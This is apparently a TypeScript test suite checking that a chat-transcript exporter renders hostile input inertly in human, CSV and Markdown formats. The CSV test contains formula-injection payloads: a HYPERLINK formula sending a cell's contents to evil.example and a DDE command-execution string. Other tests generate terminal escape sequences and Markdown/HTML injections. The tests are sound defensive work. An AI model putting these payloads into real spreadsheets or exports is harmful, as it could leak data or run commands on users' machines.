/*
 * Every format with generated hostile entries: human, csv and markdown show customer and org text inert; jsonl keeps it.
 */
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import type { ConversationEntry } from '../../src/sources/api/page.js';
import { CSV_COLUMNS } from '../../src/transcript/formats/csv.js';
import { formatOf, type FormatName, type TranscriptHeader } from '../../src/transcript/formats/index.js';
import { escapeMarkdown, markdownCell } from '../../src/transcript/formats/markdown.js';
import { senderLabel, toTranscript, type TranscriptEntry } from '../../src/transcript/normalize.js';
import { FORMULA_START, autolinksIn, expectedInert, gfmText, hostileStrings, rng, tableCells, unsafeIn } from '../helpers/hostile.js';

const BASE = 1_738_400_000_000;
const escapeHtml = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Raw API entries whose every text field is hostile: messageText (escaped, or raw with entities), payload text, attachment names, sender, type, identifier. */
function hostileEntries(seed: number, count: number): ConversationEntry[] {
  const r = rng(seed);
  const strings = hostileStrings(seed, count * 4);
  return Array.from({ length: count }, (_, i) => {
    const [text, name, other, more] = strings.slice(i * 4, i * 4 + 4);
    const entry: ConversationEntry = {
      identifier: r.chance(0.3) ? other : `e${i}`,
      entryType: r.chance(0.2) ? more : 'Message',
      sender: { role: r.chance(0.3) ? other : r.pick(['EndUser', 'Agent']), appType: r.chance(0.2) ? more : 'iamessage', subject: other, name },
      serverReceivedTimestamp: BASE + i * 1000,
    };
    const shape = r.pick(['escaped', 'entities', 'payload', 'attachments']);
    if (shape === 'escaped') entry.messageText = escapeHtml(text);
    // As sent: `&#27;` and friends decode to controls.
    if (shape === 'entities') entry.messageText = `${text}&#27;[2J&#x202E;&#13;&#x9b;`;
    if (shape === 'payload') entry.entryPayload = { abstractMessage: { staticContent: { text } } };
    if (shape === 'attachments') entry.entryPayload = { abstractMessage: { staticContent: { attachments: [{ name: text }, { name: other }] } } };
    return entry;
  });
}

const header = (conversationIdentifier: string, orgId = '00D5g000004AbCdEAK'): TranscriptHeader => ({
  sessionId: '0Mw5g00000AbCdJCAV',
  conversationIdentifier,
  orgId,
  entryCount: 1,
  complete: true,
  incompleteReason: null,
});
const out = (format: FormatName, raw: ConversationEntry[], h = header('c-1')): string =>
  [...formatOf(format).render({ entries: toTranscript(raw), utc: true, header: h })].join('');
const one = (fields: Partial<TranscriptEntry>): TranscriptEntry => ({
  time: BASE,
  senderRole: undefined,
  senderAppType: undefined,
  senderSubject: undefined,
  senderName: undefined,
  entryType: undefined,
  text: 'x',
  identifier: undefined,
  raw: {},
  ...fields,
});

describe('inert output: every format with hostile customer and org text', () => {
  const raw = hostileEntries(21, 400);
  const transcript = toTranscript(raw);

  it('the generated entries really are hostile: their decoded text carries controls, formulas and autolinks', () => {
    expect(transcript.filter((e) => unsafeIn(e.text).length > 0).length).to.be.greaterThan(100);
    expect(transcript.filter((e) => FORMULA_START.test(e.text)).length).to.be.greaterThan(20);
    expect(transcript.filter((e) => autolinksIn(e.text).length > 0).length).to.be.greaterThan(50);
    expect(transcript.filter((e) => /[\r\n]/.test(senderLabel(e))).length).to.be.greaterThan(20);
  });

  it('human: no control, lone CR or bidi character; one line per entry, continuation lines indented; text and sender shown escaped', () => {
    const text = out('human', raw);
    expect(unsafeIn(text)).to.deep.equal([]);
    expect(text).not.to.include('\r');
    const lines = text.replace(/\n$/, '').split('\n');
    const starts = lines.filter((l) => /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ {2}/.test(l));
    expect(starts).to.have.length(raw.length);
    for (const l of lines) if (!starts.includes(l)) expect(l).to.match(/^ {4}/);
    for (const e of transcript) {
      const shown = `  ${expectedInert(senderLabel(e), true)}: ${expectedInert(e.text).replace(/\r?\n/g, '\n    ')}\n`;
      expect(text).to.include(shown);
    }
  });

  it('csv: every cell parses back, starts with no formula character (fullwidth too), holds no control, and reads as the escaped value', () => {
    const rows: string[][] = parse(out('csv', raw));
    expect(rows[0]).to.deep.equal(CSV_COLUMNS);
    expect(rows).to.have.length(raw.length + 1);
    rows.slice(1).forEach((row, i) => {
      const e = transcript[i];
      const fields = [new Date(e.time as number).toISOString(), e.senderRole, e.senderAppType, e.senderSubject, e.entryType, e.text, e.identifier];
      row.forEach((cell, c) => {
        expect(cell, `row ${i} ${CSV_COLUMNS[c]}: ${JSON.stringify(cell)}`).not.to.match(FORMULA_START);
        expect(unsafeIn(cell)).to.deep.equal([]);
        const value = expectedInert(fields[c] ?? '');
        expect(cell).to.equal(FORMULA_START.test(value) ? `'${value}` : value);
      });
    });
  });

  it("csv: OWASP's examples get a leading apostrophe; a tab before = can't leave the formula bare", () => {
    const cellOf = (text: string): string => {
      const rows: string[][] = parse([...formatOf('csv').render({ entries: [one({ text })], utc: true, header: header('c-1') })].join(''));
      return rows[1][5];
    };
    for (const text of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r\n=1+1', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20A1']) {
      expect(cellOf(text), JSON.stringify(text)).to.equal(`'${text}`);
    }
    // A lone CR is shown as its escape, which starts no formula.
    expect(cellOf('\r=1+1')).to.equal('\\u000d=1+1');
    // The API's text is trimmed when it is read, so `\t=1+1` arrives as `=1+1`, and is escaped as such.
    const rows: string[][] = parse(out('csv', [{ identifier: 'x', messageText: '\t=1+1', serverReceivedTimestamp: BASE }]));
    expect(rows[1][5]).to.equal("'=1+1");
  });

  it('markdown: no raw control character, nothing a GFM renderer would autolink, and the text still reads as itself', () => {
    const md = out('markdown', raw);
    expect(unsafeIn(md)).to.deep.equal([]);
    expect(md).not.to.include('\r');
    expect(autolinksIn(md)).to.deep.equal([]);
    for (const e of transcript) {
      // Rendered: escapes and entities decoded, the invisible word joiners and the hard breaks' spaces gone.
      const shown = gfmText(escapeMarkdown(e.text)).replace(/\u2060/g, '').replace(/ {2}\n/g, '\n');
      expect(shown, JSON.stringify(e.text)).to.equal(expectedInert(e.text).replace(/\r\n/g, '\n'));
    }
    // Each entry's sender line is one line, and reads as the sender, escaped.
    const senders = md.split('\n').filter((l) => l.startsWith('**'));
    expect(senders).to.have.length(transcript.length);
    senders.forEach((line, i) => {
      const label = /^\*\*(.*)\*\* · \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ {2}$/.exec(line)?.[1];
      expect(label === undefined ? undefined : gfmText(label).replace(/\u2060/g, ''), line).to.equal(expectedInert(senderLabel(transcript[i]), true));
    });
  });

  it('markdown: no HTML, link, image, heading, list, table row or setext underline out of chat text', () => {
    const md = escapeMarkdown('<b>x</b>\n[a](http://e.example) ![i](x.png)\n# h\n- l\n+ l\n1. l\n| a | b |\n===\n---');
    expect(md).not.to.match(/<[a-z]/i);
    expect(md).not.to.match(/(?<!\\)\[/);
    for (const line of md.split('\n')) expect(line, line).to.match(/^(?:\\[#+=|-]|\d\\[.)]|&lt;|\\\[|\\\||$)/);
  });

  it('markdown header: an identifier with |, backticks, backslashes or controls keeps the table at two cells and reads as itself', () => {
    const ids = [...hostileStrings(22, 300), 'a|b', '`x`|y', 'a\\|b', '\\', '``', 'http://evil.example', 'x@evil.example'];
    for (const id of ids) {
      const md = out('markdown', [], header(id, id));
      const rows = md.split('\n').filter((l) => l.startsWith('| Conversation ') || l.startsWith('| Org '));
      expect(rows, JSON.stringify(id)).to.have.length(2);
      for (const row of rows) {
        const cells = tableCells(row);
        expect(cells, `${JSON.stringify(id)} → ${row}`).to.have.length(2);
        const cell = cells[1];
        // A code span shows its content literally; escaped text reads as itself once decoded (GFM un-escapes \| in cells).
        const read = /^`[^`]*`$/.test(cell) ? cell.slice(1, -1) : gfmText(cell).replace(/\u2060/g, '');
        // (A table cell's outer spaces are never shown.)
        expect(read.trim(), JSON.stringify(id)).to.equal(expectedInert(id, true).trim());
      }
      expect(unsafeIn(md)).to.deep.equal([]);
      expect(autolinksIn(md.split('\n').filter((l) => !/^\| (?:Conversation|Org) \| `/.test(l)).join('\n'))).to.deep.equal([]);
    }
    expect(markdownCell('6f2c1e0a-3b7d')).to.equal('`6f2c1e0a-3b7d`');
  });

  it('jsonl keeps the API data exactly: raw entries and text unchanged (JSON escapes the controls)', () => {
    const lines = out('jsonl', raw).trimEnd().split('\n');
    expect(lines).to.have.length(raw.length);
    const parsed = lines.map((l) => JSON.parse(l) as { raw: unknown; text: string; senderName: string | null });
    expect(parsed.map((p) => p.raw)).to.deep.equal(toTranscript(raw).map((e) => e.raw));
    expect(parsed.map((p) => p.text)).to.deep.equal(transcript.map((e) => e.text));
    expect(parsed.map((p) => p.senderName)).to.deep.equal(transcript.map((e) => e.senderName ?? null));
    // eslint-disable-next-line no-control-regex
    for (const line of lines) expect(line).not.to.match(/[\u0000-\u001f]/);
  });
});
